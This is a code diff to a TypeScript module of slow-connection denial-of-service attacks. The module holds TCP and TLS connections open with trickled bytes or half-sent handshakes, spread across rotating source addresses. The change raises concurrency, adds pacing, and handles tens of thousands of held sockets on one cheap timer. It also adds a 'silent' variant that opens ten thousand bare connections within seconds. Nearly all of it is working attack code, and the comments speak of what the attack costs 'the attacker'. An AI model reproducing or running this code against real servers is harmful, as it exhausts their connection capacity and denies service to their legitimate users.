@@ -1,13 +1,12 @@
 import type { Socket } from 'node:net';
-import { setTimeout as pause } from 'node:timers/promises';
-import { sourceAddress, timeOver, type Attack, type Target } from './attack.js';
+import { pace, sourceAddress, timeOver, type Attack, type Tally, type Target } from './attack.js';
 import { openTcp, openTls } from './sockets.js';
 
 /** As slow as one can be and still look alive. */
 const DRIP_MS = 500;
 const SOURCES = 50;
-/** Handshakes that this machine plays at the same time. */
-const OPENING_AT_ONCE = 50;
+/** Connections on their way at the same time: what one address in fifty may have waiting, and what this machine opens. */
+const OPENING_AT_ONCE = 200;
 
 interface Slow {
   readonly open: (target: Target, source: string) => Promise<Socket | null>;
@@ -15,38 +14,75 @@ interface Slow {
   readonly drip: string;
 }
 
-/** Keeps each connection for as long as the node lets it, and `more.patienceMs` at the most, with a byte now and then. */
+/** Makes `count` connections and keeps each for as long as the node lets it, with a byte now and then. */
 function slow({ open, first, drip }: Slow): Attack {
   return async (target, stopped, tally) => {
-    const patienceMs = Number(target.more.patienceMs);
-    const isOver = timeOver({ seconds: target.seconds - patienceMs / 1_000 }, stopped);
+    const crowd = new Crowd(target.patienceMs, drip, tally, stopped);
+    const isOver = timeOver(target, stopped);
+    const mayBegin = pace(target.perSecond);
     let next = 0;
-    const held: Promise<void>[] = [];
     const opener = async (): Promise<void> => {
-      while (next < target.count && !isOver()) {
-        const socket = await open(target, sourceAddress(next++, SOURCES));
-        if (socket === null) tally.add('refused');
-        else held.push(hold(socket));
+      while (next < target.count) {
+        const source = sourceAddress(next++, SOURCES);
+        await mayBegin();
+        if (isOver()) return;
+        tally.begun();
+        const socket = await open(target, source);
+        if (socket === null) tally.ended('refused');
+        else crowd.add(socket, first);
       }
-    };
-    const hold = async (socket: Socket): Promise<void> => {
-      const since = process.hrtime.bigint();
-      const heldMs = (): number => Number(process.hrtime.bigint() - since) / 1e6;
-      tally.add('opened');
-      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
-      socket.resume();
-      if (first !== '') socket.write(first, 'latin1');
-      while (!socket.destroyed && heldMs() < patienceMs && !stopped.aborted) {
-        await Promise.race([closed, pause(DRIP_MS)]);
-        if (drip !== '' && socket.writable) socket.write(drip, 'latin1');
-      }
-      tally.most('longest_ms', heldMs());
-      tally.add(socket.destroyed ? 'cut_off' : 'never_cut_off');
-      socket.destroy();
     };
     await Promise.all(Array.from({ length: OPENING_AT_ONCE }, opener));
-    await Promise.all(held);
+    await crowd.allEnded();
   };
+}
+
+/** Connections that are held open: one timer for all, so that ten thousand cost the attacker little. */
+class Crowd {
+  private readonly held = new Map<Socket, number>();
+  private readonly timer: NodeJS.Timeout;
+  private whenEmpty: () => void = () => undefined;
+
+  constructor(
+    private readonly patienceMs: number,
+    private readonly drip: string,
+    private readonly tally: Tally,
+    stopped: AbortSignal,
+  ) {
+    this.timer = setInterval(() => this.look(), DRIP_MS);
+    stopped.addEventListener('abort', () => clearInterval(this.timer));
+  }
+
+  add(socket: Socket, first: string): void {
+    this.tally.add('taken');
+    this.held.set(socket, performance.now());
+    this.tally.most('most_at_once', this.held.size);
+    socket.once('close', () => this.end(socket, 'closed')).resume();
+    if (first !== '') socket.write(first, 'latin1');
+  }
+
+  async allEnded(): Promise<void> {
+    if (this.held.size > 0) await new Promise<void>((resolve) => (this.whenEmpty = resolve));
+    clearInterval(this.timer);
+  }
+
+  private look(): void {
+    const now = performance.now();
+    for (const [socket, since] of this.held) {
+      if (now - since > this.patienceMs) this.end(socket, 'kept');
+      else if (this.drip !== '' && socket.writable) socket.write(this.drip, 'latin1');
+    }
+  }
+
+  private end(socket: Socket, outcome: 'closed' | 'kept'): void {
+    const since = this.held.get(socket);
+    if (since === undefined) return;
+    this.held.delete(socket);
+    this.tally.most('longest_ms', performance.now() - since);
+    this.tally.ended(outcome);
+    socket.destroy();
+    if (this.held.size === 0) this.whenEmpty();
+  }
 }
 
 /** A TLS record that announces 512 bytes of handshake, and the first of them. */
@@ -64,6 +100,10 @@ export const slowBodies = slow({
   drip: 'a',
 });
 
+/** A handshake, and then nothing. */
 export const idle = slow({ open: openTls, first: '', drip: '' });
+
+/** Not even a handshake, so that a machine has ten thousand of them within seconds. */
+export const silent = slow({ open: openTcp, first: '', drip: '' });
 
 export const halfOpenTls = slow({ open: openTcp, first: HALF_HELLO, drip: '' });
